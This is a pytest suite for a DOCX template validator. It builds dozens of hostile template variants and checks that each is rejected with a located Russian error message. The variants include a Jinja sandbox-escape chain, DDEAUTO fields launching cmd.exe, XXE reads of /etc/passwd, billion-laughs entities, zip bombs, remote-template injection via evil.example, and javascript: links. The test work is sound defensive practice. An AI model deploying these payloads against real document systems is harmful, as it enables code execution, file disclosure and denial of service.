"""What a stranger's template may hold: mistakes are told with their place, dangers keep it out."""

import re
import struct
import zlib
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from docx import Document

from documents.papers.building import built_in_template
from documents.papers.checking import CheckedTemplate, check_template
from engine.papers.model import Column, PaperField, PaperForm, Paragraph, Table
from engine.refusals import BadInput
from engine.words import Words
from tests.support.papers import part_of, with_part

SAID = Words("Поле", "Field")
FORM = PaperForm(
    "test",
    1,
    "order",
    "other",
    Words("Проба", "Trial"),
    "organisation",
    (
        PaperField("school.name", Words("Школа", "School")),
        PaperField("pairs", Words("Пары", "Pairs"), "rows", fields=(PaperField("mentor.name", SAID, "name"),)),
    ),
    (Paragraph("Школа: {{ school.name }}."), Table("pairs", (Column("Кто", "{{ row.mentor.name }}"),))),
)
SOUND = built_in_template(FORM)
MAIN = "word/document.xml"
RELS = "word/_rels/document.xml.rels"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def inserted(xml: str) -> bytes:
    """The sound template with this at the beginning of its body."""
    return with_part(SOUND, MAIN, part_of(SOUND, MAIN).replace(b"<w:body>", b"<w:body>" + xml.encode()))


def said(*runs: str) -> bytes:
    return inserted("<w:p>" + "".join(f"<w:r><w:t>{run}</w:t></w:r>" for run in runs) + "</w:p>")


def related(kind: str, target: str, *, outside: bool = True) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    added = f'<Relationship Id="rIdEvil" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    return with_part(SOUND, RELS, part_of(SOUND, RELS).replace(b"</Relationships>", added.encode()))


def field_of_word(*instructions: str) -> bytes:
    pieces = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in instructions)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return inserted(f"<w:p>{begin}{pieces}{end}</w:p>")


def declared(part: str, content_type: str) -> bytes:
    """The sound template whose main part calls itself something else."""
    types = part_of(SOUND, "[Content_Types].xml")
    return with_part(SOUND, part, re.sub(rb'ContentType="[^"]*document\.main\+xml"', content_type.encode(), types))


def bomb() -> bytes:
    made = BytesIO()
    with ZipFile(BytesIO(SOUND)) as old, ZipFile(made, "w", ZIP_DEFLATED) as new:
        for entry in old.infolist():
            new.writestr(entry, old.read(entry))
        new.writestr("word/media/image1.png", b"\0" * (120 * 1024 * 1024))
    return made.getvalue()


def lying_bomb() -> bytes:
    """The directory says little, the stream unpacks to much."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream = packed.compress(b"\0" * (120 * 1024 * 1024)) + packed.flush()
    made = bytearray(with_part(SOUND, "word/media/a.xml", b"x" * 10))
    at = made.rfind(b"word/media/a.xml")
    made[at - 22 : at - 18] = struct.pack("<I", len(stream))
    return bytes(made)


def deep() -> bytes:
    return inserted("<w:p>" + "<w:smartTag>" * 150 + "</w:smartTag>" * 150 + "</w:p>")


DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'

MALICIOUS: dict[str, Callable[[], bytes]] = {
    "jinja if": lambda: said("{% if true %}x{% endif %}"),
    "jinja for outside a table": lambda: said("{% for x in range(10**9) %}x{% endfor %}"),
    "jinja set": lambda: said("{% set x = 1 %}"),
    "jinja include": lambda: said("{% include '/etc/passwd' %}"),
    "jinja import": lambda: said("{% import 'os' as os %}"),
    "jinja macro": lambda: said("{% macro a() %}{% endmacro %}"),
    "jinja comment": lambda: said("{# hidden #}"),
    "the way to python's classes": lambda: said("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    "an attribute with underscores": lambda: said("{{ school.__class__ }}"),
    "a call": lambda: said("{{ school.name() }}"),
    "a filter": lambda: said("{{ school.name|upper }}"),
    "an index": lambda: said("{{ school['name'] }}"),
    "arithmetics": lambda: said("{{ 7*7 }}"),
    "a rich text of docxtpl": lambda: said("{{r school.name }}"),
    "a paragraph loop of docxtpl": lambda: said("{%p for x in pairs %}"),
    "a column loop of docxtpl": lambda: said("{%tc for x in pairs %}"),
    "an expression cut into runs": lambda: said("{", "{ 7", "*7 }", "}"),
    "a loop outside a table": lambda: said("{%tr for row in pairs %}"),
    "braces never closed": lambda: said("{{ school.name"),
    "braces closed in the next paragraph": lambda: inserted(
        "<w:p><w:r><w:t>{{ school</w:t></w:r></w:p><w:p><w:r><w:t>.name }}</w:t></w:r></w:p>"
    ),
    "an unknown field": lambda: said("{{ password }}"),
    "macros": lambda: with_part(SOUND, "word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
    "a document with macros by its type": lambda: declared(
        "[Content_Types].xml", 'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"'
    ),
    "an embedded workbook": lambda: with_part(SOUND, "word/embeddings/a.xlsx", b"PK"),
    "an embedded program": lambda: with_part(SOUND, "word/media/setup.exe", b"MZ"),
    "activex": lambda: with_part(SOUND, "word/activeX/activeX1.xml", b"<x/>"),
    "an ole object": lambda: inserted(f'<w:p><w:r><w:object xmlns:w="{W}"/></w:r></w:p>'),
    "a chunk of html": lambda: inserted('<w:altChunk xmlns:r="x" r:id="rId1"/>'),
    "a picture from the net": lambda: related("image", "https://evil.example/a.png"),
    "a template from the net by frame": lambda: related("frame", "https://evil.example/a.dotm"),
    "a share of the network": lambda: related("image", r"\\evil.example\share\a.png", outside=False),
    "a target that climbs out": lambda: related("image", "../../../etc/passwd", outside=False),
    "a link that runs a script": lambda: related("hyperlink", "javascript:alert(1)"),
    "a link to a file": lambda: related("hyperlink", "file:///C:/Windows/System32/cmd.exe"),
    "an ole link": lambda: related("oleObject", "file:///C:/a.xlsx"),
    "dde": lambda: field_of_word('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    "dde cut in two": lambda: field_of_word("DDE", 'AUTO cmd "/k calc"'),
    "dde in a simple field": lambda: inserted('<w:p><w:fldSimple w:instr=" DDEAUTO cmd "><w:r/></w:fldSimple></w:p>'),
    "a field that includes a file": lambda: field_of_word(" INCLUDETEXT /etc/passwd "),
    "a field that includes a picture": lambda: field_of_word(' INCLUDEPICTURE "https://evil.example/a" '),
    "a field that starts a macro": lambda: field_of_word(" MACROBUTTON a b "),
    "a field that builds another by code": lambda: field_of_word(" QUOTE 68 68 69 "),
    "a field with a script": lambda: field_of_word(' HYPERLINK "javascript:x" '),
    "an instruction in no field": lambda: inserted("<w:p><w:r><w:instrText>DDEAUTO x</w:instrText></w:r></w:p>"),
    "an entity of a file": lambda: with_part(SOUND, MAIN, DOCTYPE + part_of(SOUND, MAIN)),
    "entities in a part nobody shows": lambda: with_part(SOUND, "customXml/item9.xml", LAUGHS),
    "a bomb": bomb,
    "a bomb that lies": lying_bomb,
    "elements too deep": deep,
    "two parts of one name": lambda: with_part(SOUND, "word/DOCUMENT.xml", part_of(SOUND, MAIN)),
    "names that lead outside": lambda: with_part(SOUND, "../../evil.txt", b"x"),
    "too many parts": lambda: _many(),
    "a cut file": lambda: SOUND[: len(SOUND) // 2],
    "another format": lambda: b"%PDF-1.7\n",
    "an old document": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000,
    "a text": lambda: "Приказ {{ school.name }}".encode(),
    "no file at all": lambda: b"",
    "eleven megabytes": lambda: b"PK\x03\x04" + b"\0" * (11 * 1024 * 1024),
}


def _many() -> bytes:
    made = BytesIO(SOUND)
    with ZipFile(made, "a") as file:
        for at in range(2100):
            file.writestr(f"word/media/{at}.png", b"")
    return made.getvalue()


def outcome(data: bytes) -> str:
    """Why it is kept out; "" when it is not."""
    try:
        checked = check_template(FORM, data)
    except BadInput as refused:
        return refused.words.ru if refused.field == "file" else ""
    assert checked.accepted == bool(checked.docx)
    return "; ".join(one.words.ru for one in checked.findings if one.level == "error")


@pytest.mark.parametrize("kind", MALICIOUS)
def test_it_is_kept_out_with_a_sentence(kind: str) -> None:
    said = outcome(MALICIOUS[kind]())
    assert re.search("[а-я]{3}", said)
    assert "Traceback" not in said


def test_there_are_thirty_kinds_and_the_template_under_them_is_sound() -> None:
    assert len(MALICIOUS) >= 30
    assert outcome(SOUND) == ""


def table_with(*rows: str) -> bytes:
    document = Document()
    document.add_paragraph("{{ school.name }}")
    table = document.add_table(0, 1)
    for words in rows:
        table.add_row().cells[0].text = words
    made = BytesIO()
    document.save(made)
    return made.getvalue()


BEGIN, END = "{%tr for row in pairs %}", "{%tr endfor %}"


@pytest.mark.parametrize(
    ("rows", "told"),
    [
        ((BEGIN, "{{ row.mentor.nmae }}", END), "Таблица 1, строка 2: поля «row.mentor.nmae» у этого документа нет"),
        (("x", "{{ row.mentor.name }}"), "Таблица 1, строка 2: поля «row.mentor.name» у этого документа нет"),
        ((BEGIN, "{{ row.mentor.name }}"), "Таблица 1, строка 1: после списка нужна строка «{%tr endfor %}»"),
        (("x", END), "Таблица 1, строка 2: конец списка без начала"),
        ((BEGIN, BEGIN, "{{ row.n }}", END, END), "Таблица 1, строка 2: список внутри списка не поддерживается"),
        ((f"{BEGIN} {{{{ school.name }}}}", "x", END), "Таблица 1, строка 1: строка с «{%tr …%}» исчезает"),
        (("{%tr for row in paris %}", "x", END), "списка «paris» у этого документа нет; возможно, «pairs»?"),
        (("{% if x %}",), "Таблица 1, строка 1: «{% if x %}» не поддерживается"),
    ],
)
def test_a_mistake_in_a_table_has_its_place(rows: tuple[str, ...], told: str) -> None:
    assert told in outcome(table_with(*rows))


def test_a_mistake_in_a_header_has_its_place() -> None:
    document = Document()
    document.add_paragraph("{{ school.name }}")
    document.sections[0].header.paragraphs[0].text = "{{ schol.name }}"
    made = BytesIO()
    document.save(made)
    assert "Верхний колонтитул, абзац 1" in outcome(made.getvalue())


def accepted(data: bytes) -> CheckedTemplate:
    checked = check_template(FORM, data)
    assert checked.accepted, checked.findings
    return checked


def test_what_word_itself_writes_is_let_in() -> None:
    accepted(field_of_word(" PAGE "))
    accepted(related("hyperlink", "https://school5.example/"))
    accepted(field_of_word(' HYPERLINK "https://school5.example/" '))
    accepted(said("{{ ", "school", ".name }}", " {не поле}"))


def test_names_of_rows_are_the_authors_own() -> None:
    checked = accepted(table_with("{%tr for pair in pairs %}", "{{ pair.n }}. {{ pair.mentor.name.gen }}", END))
    assert "pair.mentor.name.gen" in checked.placeholders


def test_a_missing_required_field_is_only_told() -> None:
    checked = accepted(table_with(BEGIN, "{{ row.n }}", END))
    assert checked.findings == ()
    document = Document()
    document.add_paragraph("Приказ")
    made = BytesIO()
    document.save(made)
    told = accepted(made.getvalue()).findings
    assert {one.level for one in told} == {"warning"}
    assert "«Школа» (school.name)" in told[0].words.ru


def test_the_authors_own_normal_template_is_taken_out() -> None:
    schema = "http://schemas.openxmlformats.org/package/2006/relationships"
    target = f'Type="{OFFICE}/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"'
    rels = f'<Relationships xmlns="{schema}"><Relationship Id="rId1" {target}/></Relationships>'
    settings = part_of(SOUND, "word/settings.xml")
    at = settings.index(b">", settings.index(b"<w:settings")) + 1
    attached = settings[:at] + f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="rId1"/>'.encode() + settings[at:]
    given = with_part(with_part(SOUND, "word/settings.xml", attached), "word/_rels/settings.xml.rels", rels.encode())
    kept = accepted(given).docx
    assert b"evil.example" not in part_of(kept, "word/_rels/settings.xml.rels")
    assert b"attachedTemplate" not in part_of(kept, "word/settings.xml")
    Document(BytesIO(kept))
